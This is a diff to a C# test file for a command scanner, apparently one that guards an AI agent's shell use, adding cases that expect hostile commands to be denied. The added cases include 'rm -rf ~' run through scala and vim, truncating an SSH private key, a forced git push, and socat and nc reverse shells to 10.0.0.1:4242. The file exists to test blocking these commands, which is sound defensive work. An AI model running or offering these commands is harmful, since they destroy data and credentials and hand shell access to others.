@@ -146,6 +146,13 @@ public class CallScanTests
     [InlineData("dc -e '!rm -rf ~'", "deny", "filesystem.delete-root", "delete path home /home/dev")]
     [InlineData("expect -c 'spawn rm -rf ~'", "deny", "filesystem.delete-root", "delete path home /home/dev")]
     [InlineData("pwsh -c 'Remove-Item -Recurse -Force ~'", "deny", "filesystem.delete-root", "delete path home /home/dev")]
+    [InlineData("scala -e 'import sys.process._; \"rm -rf ~\".!'", "deny", "filesystem.delete-root", "delete path home /home/dev")]
+    [InlineData("vim -es -c 'call system(\"ls\") | call system(\"rm -rf ~\")'", "deny", "filesystem.delete-root", "delete path home /home/dev")]
+    [InlineData("pwsh -c 'Get-Date; truncate -s 0 ~/.ssh/id_rsa'", "deny", "", "write path secret /home/dev/.ssh/id_rsa")]
+    [InlineData("pwsh -c 'Start-Process \"bash -c ls\"; Invoke-Expression \"git push --force origin main\"'", "deny", "git.force-push", "")]
+    [InlineData("socat TCP:10.0.0.1:4242 EXEC:/bin/sh,pty", "deny", "network.shell-for-another", "send host")]
+    [InlineData("socat - EXEC:'ls src'", "ask", "", "read path workspace /home/dev/project/src")]
+    [InlineData("nc 10.0.0.1 4242 | socat - EXEC:/bin/sh", "deny", "network.shell-for-another", "send host")]
     [InlineData("awk '{a[$1]+=$2} END {for(k in a) print k,a[k]}' f", "allow", "", "run code")]
     public void Small_languages_run_things(string command, string outcome, string rule, string effect) => Shipped.Holds(command, outcome, rule, effect);
 
